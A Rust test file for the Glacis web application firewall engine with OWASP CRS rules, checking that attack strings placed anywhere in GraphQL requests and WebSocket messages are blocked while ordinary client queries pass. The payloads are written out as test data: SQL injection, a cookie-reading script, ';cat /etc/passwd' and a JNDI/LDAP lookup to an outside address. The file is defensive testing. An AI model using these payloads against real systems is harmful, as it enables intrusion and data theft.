//! GraphQL with CRS, by its own defaults and by those of Glacis: attacks are found in each place of a request, and
//! documents that clients send pass.
//!
//! CRS is not in the repository. `cargo xtask fetch` brings it; `GLACIS_CRS_DIR` names another one.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test ends at what it did not expect")]

use std::{net::Ipv4Addr, path::PathBuf, sync::Arc, time::Duration};

use glacis_engine::{Endpoint, Limits, Program, Start, Transaction};
use glacis_rules::{Assembly, CrsSettings, Defaults, ExclusionRules, RecordingSource};

const JSON: &str = "application/json";
const FORM: &str = "application/x-www-form-urlencoded";
const GRAPHQL: &str = "application/graphql";

fn program(defaults: Defaults, graphql: &str) -> Arc<Program> {
    let fetched = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../.fetched/crs-4.25.0");
    let crs = std::env::var_os("GLACIS_CRS_DIR").map_or(fetched, PathBuf::from);
    let source = RecordingSource::default();
    let assembly = Assembly {
        base: true,
        crs: Some(&crs),
        defaults,
        setup: "",
        settings: CrsSettings::default(),
        graphql,
        openapi: "",
        exclusions: &ExclusionRules::default(),
        files: &[],
        directives: "",
        limits: "",
    };
    let found = assembly.assemble(&source);
    let found = found.unwrap_or_else(|error| panic!("{error}: run `cargo xtask fetch`"));
    Arc::new(Program::build(&found.inputs, &source, Limits::default()).unwrap())
}

fn is_blocked(program: &Arc<Program>, uri: &str, media_type: &str, body: &str) -> bool {
    let mut transaction = Transaction::new(Arc::clone(program));
    let endpoint = Endpoint { address: Ipv4Addr::LOCALHOST.into(), port: 1 };
    let time = Duration::from_secs(1_700_000_000);
    transaction.start(&Start { unique_id: "1", time, client: endpoint, server: endpoint });
    let method = if body.is_empty() { "GET" } else { "POST" };
    transaction.request_line(method.as_bytes(), uri.as_bytes(), b"HTTP/1.1");
    transaction.request_header(b"Host", b"shop.example");
    transaction.request_header(b"User-Agent", b"Mozilla/5.0");
    transaction.request_header(b"Accept", b"*/*");
    if !body.is_empty() {
        transaction.request_header(b"Content-Length", body.len().to_string().as_bytes());
        transaction.request_header(b"Content-Type", media_type.as_bytes());
    }
    transaction.evaluate_request_headers();
    transaction.request_body(body.as_bytes());
    transaction.evaluate_request_body();
    transaction.verdict().refusal().is_some()
}

/// A string of JSON.
fn quoted(text: &str) -> String {
    serde_json::Value::from(text).to_string()
}

fn json(document: &str) -> String {
    format!("{{\"query\":{}}}", quoted(document))
}

/// What may stand in a query string or a form.
fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        if byte.is_ascii_alphanumeric() {
            out.push(char::from(byte));
        } else {
            out += &format!("%{byte:02X}");
        }
        out
    })
}

/// Each byte as an escape of four digits.
fn unicode(text: &str) -> String {
    text.bytes().map(|byte| format!("\\u{byte:04x}")).collect()
}

#[test]
fn attacks_are_found_in_each_place() {
    let programs = [Defaults::Glacis, Defaults::Crs]
        .map(|defaults| program(defaults, "SecGraphqlPath /graphql"));
    for attack in [
        "1' UNION SELECT login, password FROM users-- -",
        "<script>alert(document.cookie)</script>",
        ";cat /etc/passwd",
        "${jndi:ldap://198.51.100.7/a}",
    ] {
        let literal = format!("query Q {{ user(name: {}) {{ id }} }}", quoted(attack));
        let places = [
            literal.clone(),
            format!("{{ user(name: \"{}\") {{ id }} }}", unicode(attack)),
            format!("{{ user(name: \"\"\"\n    {attack}\n    \"\"\") {{ id }} }}"),
            format!("mutation {{ add(w: {{a: [{{b: {}}}]}}) {{ id }} }}", quoted(attack)),
            format!("query($a: String = {}) {{ user(name: $a) {{ id }} }}", quoted(attack)),
            format!("{{ ...F }} fragment F on T @d(a: {}) {{ b }}", quoted(attack)),
            format!("{{ a }} # {attack}"),
            format!("{} query {{ a }}", quoted(attack)),
            format!("{{ a {attack}"),
            format!("query {attack} {{ a }}"),
        ];
        for (program, media_type) in [(&programs[0], GRAPHQL), (&programs[1], JSON)] {
            for document in &places {
                let body = if media_type == JSON { json(document) } else { document.clone() };
                assert!(is_blocked(program, "/graphql", media_type, &body), "{body}");
            }
        }
        let ours = &programs[0];
        let operations = json(&literal);
        let multipart = format!(
            "--XX\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{operations}\r\n\
             --XX\r\nContent-Disposition: form-data; name=\"map\"\r\n\r\n{{}}\r\n--XX--\r\n"
        );
        for (media_type, body) in [
            (JSON, format!("[{},{}]", json("{ a }"), json(&literal))),
            (JSON, format!("{{\"query\":\"{{a}}\",\"variables\":{{\"v\":{}}}}}", quoted(attack))),
            (JSON, format!("{{\"query\":\"{{a}}\",\"operationName\":{}}}", quoted(attack))),
            (FORM, format!("query={}", escaped(&literal))),
            (
                FORM,
                format!(
                    "query={{a}}&variables={}",
                    escaped(&format!("{{\"v\":{}}}", quoted(attack)))
                ),
            ),
            ("multipart/form-data; boundary=XX", multipart),
            ("text/plain", json(&literal)),
        ] {
            assert!(is_blocked(ours, "/graphql", media_type, &body), "{body}");
        }
        let uri = format!("/graphql?query={}", escaped(&literal));
        assert!(is_blocked(ours, &uri, "", ""), "{uri}");
        let variables =
            escaped(&format!("{{\"v\":{}}}", quoted(&unicode(attack)).replace("\\\\", "\\")));
        let uri = format!("/graphql?query=%7Ba%7D&variables={variables}");
        assert!(is_blocked(ours, &uri, "", ""), "{uri}");
    }
}

/// Documents in the style of the specification's examples, and of common client libraries.
const BENIGN: &[&str] = &[
    "{ user(id: 4) { id name profilePic(width: 100, height: 50) } }",
    "mutation { likeStory(storyID: 12345) { story { likeCount } } }",
    "query P($first: Int!, $after: String) { items(first: $first, after: $after) { edges { node { id } } pageInfo { hasNextPage endCursor } } }",
    "mutation CreateReview($input: ReviewInput!) { createReview(input: $input) { id stars commentary } }",
    "query withFragments { user(id: 4) { friends(first: 10) { ...friendFields } } } fragment friendFields on User { id name profilePic(size: 50) }",
    "query inlineFragment($expanded: Boolean) { user(handle: \"zuck\") { id ... @include(if: $expanded) { firstName lastName birthday } ... on Page { likers { count } } } }",
    "mutation { sendEmail(message: \"\"\"\n  Hello,\n    World!\n\n  Yours,\n    GraphQL.\n\"\"\") }",
    "query { nearestThing(location: { lon: 12.43, lat: -53.211 }) echo(list: [RED, GREEN], on: true, none: null) }",
    "# the orders of a customer\nquery Orders { orders(where: {status: {in: [OPEN, PAID]}}, orderBy: {createdAt: DESC}, limit: 20) { id total } }",
    "subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id author { login } body } }",
    "query Search { search(query: \"winter coat, red\") { __typename ... on Product { id title } } }",
    "query select { select: system(from: users) { exec user(or: 1) { sleep count } } }",
];

/// By the defaults of CRS alone, some of them are blocked elsewhere.
#[test]
fn documents_of_clients_pass() {
    for defaults in [Defaults::Glacis, Defaults::Crs] {
        let program = program(defaults, "SecGraphqlPath /graphql");
        let mut blocked_as_text = 0;
        for document in BENIGN {
            // `.profile` in the name of an argument is a file for 930120, as in other JSON.
            if defaults == Defaults::Crs && document.contains("profilePic") {
                continue;
            }
            let body = json(document);
            assert!(!is_blocked(&program, "/graphql", JSON, &body), "{body}");
            blocked_as_text += usize::from(is_blocked(&program, "/other", JSON, &body));
            let uri = format!("/graphql?query={}", escaped(document));
            assert!(!is_blocked(&program, &uri, "", ""), "{uri}");
        }
        if defaults == Defaults::Crs {
            assert!(blocked_as_text >= 3, "{blocked_as_text} are blocked as text");
        }
    }
}

/// Whether a message of a WebSocket on `/graphql` is blocked.
fn is_message_blocked(program: &Arc<Program>, message: &str) -> bool {
    let mut transaction = Transaction::new(Arc::clone(program));
    let endpoint = Endpoint { address: Ipv4Addr::LOCALHOST.into(), port: 1 };
    let time = Duration::from_secs(1_700_000_000);
    transaction.start(&Start { unique_id: "1", time, client: endpoint, server: endpoint });
    transaction.request_line(b"GET", b"/graphql", b"HTTP/1.1");
    for (name, value) in [
        ("Host", "shop.example"),
        ("User-Agent", "Mozilla/5.0"),
        ("Accept", "*/*"),
        ("Content-Type", JSON),
    ] {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    transaction.evaluate_request_headers();
    transaction.request_is_message();
    transaction.request_body(message.as_bytes());
    transaction.evaluate_request_body();
    transaction.verdict().refusal().is_some()
}

/// Messages of graphql-transport-ws (`subscribe`) and of its predecessor (`start`): the document is taken apart, its
/// limits hold, and the messages of the protocol without a document pass.
#[test]
fn messages_of_web_sockets() {
    let limits = "SecGraphqlPath \"/graphql\"\n\
                  SecRule GRAPHQL:depth \"@gt 3\" \"id:1,phase:2,deny\"\n\
                  SecRule GRAPHQL:malformed \"@gt 0\" \"id:2,phase:2,deny\"\n";
    let (with, without) = (program(Defaults::Glacis, limits), program(Defaults::Glacis, ""));
    let message = |kind: &str, document: &str, variables: &str| {
        let payload = format!("{{\"query\":{},\"variables\":{variables}}}", quoted(document));
        format!("{{\"id\":\"1\",\"type\":\"{kind}\",\"payload\":{payload}}}")
    };
    let subscribe = |document: &str| message("subscribe", document, "{}");
    let deep = "subscription { a { b { c { d } } } }";
    let attack = "subscription { a(b: \"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\") }";
    for (text, is_blocked, is_blocked_as_json) in [
        (subscribe("subscription S($a: Int) { added(to: $a) { user { name } } }"), false, false),
        (message("start", "{ a }", "{\"a\":1}"), false, false),
        (subscribe(deep), true, false),
        (message("start", deep, "{}"), true, false),
        (subscribe(attack), true, true),
        (message("subscribe", "{ a }", "{\"b\":\"<script>alert(1)</script>\"}"), true, true),
        (subscribe("subscription {"), true, false),
        (json(deep), true, false),
        ("{\"type\":\"connection_init\",\"payload\":{\"token\":\"a\"}}".to_owned(), false, false),
        ("{\"type\":\"ping\"}".to_owned(), false, false),
        ("{\"id\":\"1\",\"type\":\"complete\"}".to_owned(), false, false),
    ] {
        assert_eq!(is_message_blocked(&with, &text), is_blocked, "{text}");
        assert_eq!(is_message_blocked(&without, &text), is_blocked_as_json, "without: {text}");
    }
}
